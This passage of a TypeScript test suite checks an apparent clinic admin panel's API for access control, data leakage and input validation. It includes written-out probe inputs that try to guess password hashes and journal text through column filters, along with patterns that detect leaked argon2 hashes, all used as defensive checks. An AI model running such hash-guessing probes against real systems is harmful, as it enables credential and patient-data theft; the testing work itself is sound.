        const before = await fingerprint();
        const answer = await clients.superuser.get(path + query);
        expect(answer.status, `${resource} ${action}: ${answer.text.slice(0, 200)}`).toBe(200);
        expect((answer.json() as { notice?: unknown }).notice, `${resource} ${action}`).toBeUndefined();
        expect(await fingerprint(), `${resource} ${action}`).toBe(before);
      }
    }
  });
});

describe('what the panel gives away', () => {
  const body = (r: PanelResponse) => r.json() as { error?: { code: string }; meta?: { total: number }; records?: { params: Record<string, unknown>; title?: string }[] };

  it('answers 404 alike for a record a role may not see and for one that does not exist', async () => {
    const existing = await clients.operator.get(`/admin/api/resources/Journal/records/${ids.journal}/show`);
    const missing = await clients.operator.get('/admin/api/resources/Journal/records/987654/show');
    expect([existing.status, missing.status]).toEqual([404, 404]);
    expect(body(existing).error).toEqual(body(missing).error);
    const admin = await clients.operator.get(`/admin/api/resources/Staff/records/${people.admin2.id}/show`);
    expect(admin.status).toBe(404);
    expect(admin.text).not.toContain(people.admin2.email);
  });

  it('lets nobody filter by a column they may not see, so a hash or a journal text cannot be guessed letter by letter', async () => {
    const total = async (client: PanelClient, path: string) => body(await client.get(path)).meta?.total;
    const all = await total(clients.admin, '/admin/api/resources/Patients/actions/list');
    expect(await total(clients.admin, '/admin/api/resources/Patients/actions/list?filters.passwordHash=%24argon2')).toBe(all);
    expect(await total(clients.admin, '/admin/api/resources/Patients/actions/list?filters.passwordHash=nothing-starts-so')).toBe(all);
    const entries = await total(clients.pharmacist, '/admin/api/resources/Journal/actions/list');
    expect(await total(clients.pharmacist, '/admin/api/resources/Journal/actions/list?filters.description=Left')).toBe(entries);
    expect(await total(clients.pharmacist, '/admin/api/resources/Journal/actions/list?filters.description=Nothing')).toBe(entries);
    // A column the role does see still filters.
    expect(await total(clients.doctor, '/admin/api/resources/Journal/actions/list?filters.description=Nothing')).toBe(0);
  });

  it('never shows the one-time link of a mail waiting in the outbox, so an admin cannot reset the superuser\'s password', async () => {
    const [reset] = await db().getRepository(Notification).findBy({ kind: 'password_reset', toEmail: people.superuser.email });
    const token = new URL(String(reset.data.link), 'http://x').searchParams.get('token')!;
    expect(token.length).toBeGreaterThan(10);
    for (const path of ['/admin/api/resources/Mail/actions/list', `/admin/api/resources/Mail/records/${reset.id}/show`, '/admin/api/resources/Mail/actions/search/password']) {
      const answer = await clients.admin.get(path);
      expect(answer.status).toBe(200);
      expect(answer.text).toContain('password_reset');
      expect(answer.text.includes(token), path).toBe(false);
    }
  });

  it('finds patients by the start of their first or last name in the pickers\' search', async () => {
    const anneli = await makeUser('patient', { firstName: 'Anneliese', lastName: 'Müller-Lüdenscheidt' });
    const titles = async (q: string) => (body(await clients.operator.get(`/admin/api/resources/Patients/actions/search/${encodeURIComponent(q)}`)).records ?? []).map((r) => r.params.id);
    expect(await titles('Anneli')).toEqual([anneli.id]);
    expect(await titles('ann mül')).toEqual([anneli.id]);
    expect(await titles('Zzz')).toEqual([]);
    const many = body(await clients.operator.get('/admin/api/resources/Patients/actions/search?perPage=100000')).records ?? [];
    expect(many.length).toBeLessThanOrEqual(50);
  });

  it('answers 404 with the envelope, never 500, for unknown resources, actions, pages and record ids', async () => {
    for (const path of [
      '/admin/api/resources/Nope/actions/list', '/admin/api/resources/Journal/actions/nope',
      `/admin/api/resources/Journal/records/${ids.journal}/nope`, '/admin/api/resources/Journal/records/abc/show',
      `/admin/api/resources/Journal/records/${ids.journal}/list`, '/admin/api/pages/nope',
      '/admin/api/resources/Diagnostics/bulk/bulkDelete', '/admin/api/resources/Diagnostics/bulk/bulkDelete?recordIds=abc',
    ]) {
      const answer = await clients.superuser.get(path);
      expect(answer.status, path).toBe(404);
      expect(body(answer).error?.code, path).toBe('not_found');
    }
  });

  it('answers a malformed body 400 and an oversized one 413, and changes nothing', async () => {
    const path = `/admin/api/resources/Patients/records/${people.patient.id}/block`;
    const before = await fingerprint();
    const malformed = await clients.admin.request('POST', path, '{"reason":', 'application/json');
    expect([malformed.status, body(malformed).error?.code]).toEqual([400, 'malformed_json']);
    const huge = await clients.admin.request('POST', path, JSON.stringify({ reason: 'x'.repeat(300_000) }), 'application/json');
    expect([huge.status, body(huge).error?.code]).toEqual([413, 'payload_too_large']);
    expect(await fingerprint()).toBe(before);
  });

  it('refuses journal and prescription bulk deletes for the superuser too, and keeps the rows', async () => {
    for (const [resource, id, table] of [['Journal', ids.journal, 'journal_entries'], ['Prescriptions', ids.prescription, 'prescriptions']] as const) {
      const before = await db().query(`SELECT COUNT(*) AS n FROM ${table}`);
      const answer = await clients.superuser.post(`/admin/api/resources/${resource}/bulk/bulkDelete?recordIds=${id}`, {});
      expect(answer.status).toBe(403);
      expect(await db().query(`SELECT COUNT(*) AS n FROM ${table}`)).toEqual(before);
    }
  });

  it('keeps journal texts and prescriptions out of an operator\'s dashboard, and the audit trail out of a doctor\'s', async () => {
    const operator = await clients.operator.get('/admin/api/dashboard');
    expect(operator.status).toBe(200);
    expect(operator.text).not.toMatch(/Sprain|Left knee|Ibuprofen|Knee pain/);
    const doctor = await clients.doctor.get('/admin/api/dashboard');
    expect(doctor.text).not.toMatch(/audit|user\.block/i);
    const admin = await clients.admin.get('/admin/api/dashboard');
    expect(admin.text).toContain('Recent audit events');
    for (const role of STAFF) expect(/passwordHash|\$argon2/.test((await clients[role].get('/admin/api/dashboard')).text)).toBe(false);
  });
});

describe('junk input to custom actions', () => {
  const start = () => clinicTimeToUtc(nextWeekday(), 15 * 60).toISOString();
  it.each([
    ['operator', 'a doctor id that is not a number', () => `/admin/api/resources/Patients/records/${people.patient.id}/bookVisit`, () => ({ doctorId: 'abc', startsAt: start() }), 'doctorId'],
    ['operator', 'no doctor and no time', () => `/admin/api/resources/Patients/records/${people.patient.id}/bookVisit`, () => ({}), 'startsAt'],
    ['operator', 'a time that is not a date', () => `/admin/api/resources/Requests/records/${ids.request}/schedule`, () => ({ startsAt: 'next tuesday' }), 'startsAt'],
    ['operator', 'a time in the past', () => `/admin/api/resources/Requests/records/${ids.request}/schedule`, () => ({ startsAt: '2020-01-06T09:00:00Z' }), 'startsAt'],
    ['admin', 'a block without a reason', () => `/admin/api/resources/Patients/records/${people.patient.id}/block`, () => ({}), 'reason'],
    ['admin', 'an on-behalf doctor that is not a number', () => `/admin/api/resources/Patients/records/${people.patient.id}/addJournalEntry`, () => ({ onBehalfOfDoctorId: 'x1', diagnosis: 'a', description: 'b' }), 'onBehalfOfDoctorId'],
    ['admin', 'an on-behalf pharmacist who is a doctor', () => `/admin/api/resources/Patients/records/${people.patient.id}/addPrescription`, () => ({ onBehalfOfPharmacistId: String(people.doctor.id), medication: 'a', dosage: 'b', instructions: 'c' }), 'onBehalfOfPharmacistId'],
    ['pharmacist', 'a journal entry number that is not a number', () => `/admin/api/resources/Patients/records/${people.patient.id}/addPrescription`, () => ({ medication: 'a', dosage: 'b', instructions: 'c', journalEntryId: '12abc' }), 'journalEntryId'],
    ['admin', 'a duration that is not a number', () => '/admin/api/resources/Diagnostics/actions/new', () => ({ name: 'Ultrasound', durationMinutes: 'half an hour' }), 'durationMinutes'],
    ['admin', 'an unknown role', () => `/admin/api/resources/Staff/records/${people.doctor.id}/changeRole`, () => ({ role: 'king' }), 'role'],
    ['admin', 'an invitation without an email', () => '/admin/api/resources/Staff/actions/new', () => ({ firstName: 'A', lastName: 'B', role: 'doctor' }), 'email'],
  ])('a %s who sends %s gets a 400 naming the field, and nothing changes', async (role, _what, path, fields, field) => {
    const before = await fingerprint();
    const answer = await clients[role].post(path(), fields() as Record<string, string>);
    expect(answer.status, answer.text.slice(0, 300)).toBe(400);
    const parsed = answer.json() as { notice: { type: string }; errors: Record<string, { message: string }>; error: { code: string; fields: Record<string, string> } };
    expect(parsed.notice.type).toBe('error');
    expect(parsed.error.fields[field]).toBeTruthy();
    expect(parsed.error.fields[field]).not.toMatch(/NaN|expected number/);
    expect(parsed.errors[field].message).toBe(parsed.error.fields[field]);
    expect(await fingerprint()).toBe(before);
  });
});
